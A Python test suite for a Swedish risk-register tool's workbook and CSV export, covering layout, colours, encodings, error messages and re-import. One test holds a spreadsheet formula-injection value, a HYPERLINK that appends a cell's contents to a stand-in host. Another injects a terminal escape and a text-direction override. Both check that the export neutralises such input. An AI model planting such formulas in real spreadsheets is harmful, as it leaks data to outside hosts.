"""``riskreg export register``: the register as a workbook and as Excel-flavoured CSV.

Read back with openpyxl (what Excel reads): the rows agree with the register
(``riskreg risks`` and the loaded plan), the netto cell has the level's colour and the
level stands beside it in words, text stays text, and the sheet is set up to print
and filter. The CSV carries the same columns in the bytes Swedish Excel expects.
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from dataclasses import replace
from datetime import date

import openpyxl
import pytest

from riskreg.domain.records import Acceptance
from riskreg.domain.register_sheet import COLUMNS, build_sheet
from riskreg.services import editing, plans
from riskreg.services.examples import add_examples
from tests.clirun import run_cli

HEADERS = [c.header for c in COLUMNS]


@pytest.fixture
def examples(ctx, db_url):
    add_examples(ctx)
    return db_url


def export(capsys, url, *args):
    return run_cli(capsys, "--db", url, "export", "register", "--year", "2024", *args)


def test_the_workbook_holds_the_register(capsys, examples, ctx, tmp_path):
    target = tmp_path / "register.xlsx"
    result = export(capsys, examples, "-o", str(target))
    assert result.code == 0, result.err
    assert result.out.strip() == str(target)
    assert "27 rader (19 risker)" in result.err

    book = openpyxl.load_workbook(target)
    assert book.sheetnames == ["Register", "Riskmatris", "Kolumner"]
    ws = book["Register"]
    rows = list(ws.iter_rows(values_only=True))
    assert list(rows[0]) == HEADERS
    body = [dict(zip(HEADERS, row, strict=True)) for row in rows[1:]]
    snapshot = plans.load_plan(ctx, 2024)
    assert len(body) == sum(len(r.measures) for r in snapshot.risks) == 27

    # one row per åtgärd under its risk, in plan order
    expected = [(r.ref, m.text) for r in snapshot.risks for m in r.measures]
    assert [(b["Ref"], b["Åtgärd"].removeprefix("Regionövergripande åtgärd: ")) for b in body] == (
        expected
    )
    # netto and level as `riskreg risks` shows them; colour AND words
    listed = json.loads(
        run_cli(
            capsys, "--db", examples, "risks", "--year", "2024", "--alla", "--format", "json"
        ).out
    )
    matrix = snapshot.plan.matrix
    colours = {level.name: level.colour.lstrip("#").upper() for level in matrix.levels}
    netto_col = HEADERS.index("Netto S×K") + 1
    for index, line in enumerate(body, start=2):
        risk = next(r for r in listed if r["ref"] == line["Ref"])
        n = risk["netto"]
        assert line["Netto S×K"] == f"{n['sannolikhet']}×{n['konsekvens']}={n['riskvärde']}"
        assert line["Netto nivå"] == risk["nivå"]
        fill = ws.cell(index, netto_col).fill.fgColor.rgb
        assert fill[-6:] == colours[risk["nivå"]]
        assert line["Riskstatus"] == risk["status"]
    # status per quarter and avvikelser as reviewed
    first = snapshot.risks[0].measures[0]
    for q in range(1, 5):
        review = first.review_in(replace(first.reviews[0].period, number=q))
        assert body[0][f"Kv {q}"].startswith(review.status.value)
    deviations = [b for b in body if b["Avvikelser"]]
    assert len(deviations) == 4 and all(b["Avvikelser"].startswith("kv ") for b in deviations)
    accepted = [b for b in body if b["Riskstatus"] == "accepterad"]
    assert accepted and all(b["Acceptans"].startswith("Accepterad av ") for b in accepted)

    # set up for a person: frozen header, filter, printing, properties
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(HEADERS))}28"
    assert ws.page_setup.orientation == "landscape"
    assert ws.print_title_rows == "$1:$1"
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.page_setup.fitToWidth in (None, 1)  # 1 is the file format's default
    assert ws.page_setup.fitToHeight == 0
    assert ws.column_dimensions["C"].width > 40
    props = book.properties
    assert props.title == "Internkontrollplan 2024 – Hälso- och sjukvårdsnämnden"
    assert props.creator == "Hälso- och sjukvårdsnämnden"
    assert "Internkontrollplanens register 2024" in props.subject

    matrix_sheet = [c for row in book["Riskmatris"].iter_rows(values_only=True) for c in row if c]
    assert any(isinstance(c, str) and c.startswith("Mycket hög\n") for c in matrix_sheet)
    explained = {row[0]: row[1] for row in book["Kolumner"].iter_rows(min_row=2, values_only=True)}
    assert all(explained.get(h) for h in HEADERS)


def test_text_that_looks_like_a_formula_stays_text(capsys, ctx, db_url, tmp_path):
    snapshot = plans.load_plan(ctx, 2024)
    hostile = '=HYPERLINK("http://example.invalid/?"&A1;"klicka")'
    editing.add_risk(
        ctx, snapshot.plan.id, editing.RiskFields(area="EK", text=hostile), reason="Test."
    )
    target = tmp_path / "register.xlsx"
    assert export(capsys, db_url, "-o", str(target)).code == 0
    ws = openpyxl.load_workbook(target)["Register"]
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value == hostile]
    assert cells and all(c.data_type == "s" for c in cells)

    csv_target = tmp_path / "register.csv"
    assert export(capsys, db_url, "--format", "csv", "-o", str(csv_target)).code == 0
    rows = list(csv.reader(io.StringIO(csv_target.read_bytes().decode("utf-8-sig")), delimiter=";"))
    assert "'" + hostile in [cell for row in rows for cell in row]


def test_csv_is_the_excel_flavour_with_the_same_columns(capsys, examples, tmp_path):
    book_path, csv_path = tmp_path / "r.xlsx", tmp_path / "r.csv"
    assert export(capsys, examples, "-o", str(book_path)).code == 0
    assert export(capsys, examples, "--format", "csv", "-o", str(csv_path)).code == 0
    data = csv_path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfVerksamhet;Ref;Risk;")
    assert data.count(b"\r\n") >= 28 and b"\n" not in data.replace(b"\r\n", b"")[:200]
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    sheet = [
        ["" if v is None else v for v in row]
        for row in openpyxl.load_workbook(book_path)["Register"].iter_rows(values_only=True)
    ]
    assert rows == sheet
    # to standard output as well
    piped = export(capsys, examples, "--format", "csv", "-o", "-")
    assert piped.code == 0 and piped.out.startswith("\ufeffVerksamhet;")


def test_an_expired_acceptance_says_so(ctx):
    snapshot = plans.load_plan(ctx, 2024)
    risk = replace(
        snapshot.risks[0],
        acceptance=Acceptance("Nämnden", "Kostnaden överstiger nyttan.", date(2024, 12, 31)),
    )
    changed = replace(snapshot, risks=(risk, *snapshot.risks[1:]))
    on_the_day = build_sheet(changed, "HSN", date(2024, 12, 31)).lines[0].acceptance
    after = build_sheet(changed, "HSN", date(2025, 1, 1)).lines[0].acceptance
    assert on_the_day == "Accepterad av Nämnden t.o.m. 2024-12-31: Kostnaden överstiger nyttan."
    assert after == (
        "Accepterad av Nämnden t.o.m. 2024-12-31 – har gått ut: Kostnaden överstiger nyttan."
    )


@pytest.mark.parametrize(
    ("args", "code", "message"),
    [
        (
            ("-o", "register.csv"),
            1,
            "Filnamnet register.csv slutar på .csv, men filen blir en Excel-arbetsbok",
        ),
        (
            ("--format", "csv", "-o", "r.xlsx"),
            1,
            "Filnamnet r.xlsx slutar på .xlsx, men filen blir en CSV-fil",
        ),
        (("-o", "saknas/register.xlsx"), 1, "Mappen"),
        (("--format", "pdf"), 2, "--format"),
        (("--year", "1999"), 1, "1999"),
        (("--nämnd", "Okänd"), 1, "Okänd nämnd ”Okänd”"),
    ],
)
def test_wrong_arguments_are_one_swedish_sentence(
    capsys, db_url, tmp_path, monkeypatch, args, code, message
):
    monkeypatch.chdir(tmp_path)
    result = export(capsys, db_url, *args)
    assert result.code == code
    assert message in result.err
    assert "Traceback" not in result.err
    assert list(tmp_path.iterdir()) == [tmp_path / "register.db"]


def test_default_name_and_an_existing_link_refused(capsys, db_url, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    made = export(capsys, db_url)
    assert made.code == 0
    assert (tmp_path / "register-halso-och-sjukvardsnamnden-2024.xlsx").is_file()
    link = tmp_path / "länk.xlsx"
    link.symlink_to(tmp_path / "annan.xlsx")
    refused = export(capsys, db_url, "-o", str(link))
    assert refused.code == 1 and "symbolisk länk" in refused.err
    assert not (tmp_path / "annan.xlsx").exists()


def test_an_exported_register_imports_as_next_years_plan(capsys, examples, ctx, tmp_path):
    book = tmp_path / "register-2024.xlsx"
    assert export(capsys, examples, "-o", str(book)).code == 0
    imported = run_cli(
        capsys, "--db", examples, "import", "plan", str(book), "--year", "2025", "--nämnd", "HSN"
    )
    assert imported.code == 0, imported.err
    before, after = plans.load_plan(ctx, 2024), plans.load_plan(ctx, 2025)

    def plan(snapshot):
        return [
            (r.ref, r.area, r.text, r.region_wide, [(m.id, m.text, m.roles) for m in r.measures])
            for r in snapshot.risks
        ]

    assert plan(after) == plan(before)  # same risks, same åtgärder (ids), same roles


def test_control_characters_in_the_register_are_shown_as_symbols(capsys, db_url, tmp_path):
    # Written behind the program's back: the workbook shows it, it never acts on it.
    path = db_url.removeprefix("sqlite:///")
    with sqlite3.connect(path) as conn:
        conn.execute(
            "UPDATE plan_risk SET text = ? WHERE id = (SELECT MIN(id) FROM plan_risk "
            "WHERE plan_id = (SELECT id FROM plan WHERE year = 2024))",
            ("Risk \x1b[2J med \u202eomvänd text",),
        )
    target = tmp_path / "register.xlsx"
    assert export(capsys, db_url, "-o", str(target)).code == 0
    risk = openpyxl.load_workbook(target)["Register"]["C2"].value
    assert risk == "Regionövergripande: Risk ␛[2J med <U+202E>omvänd text"
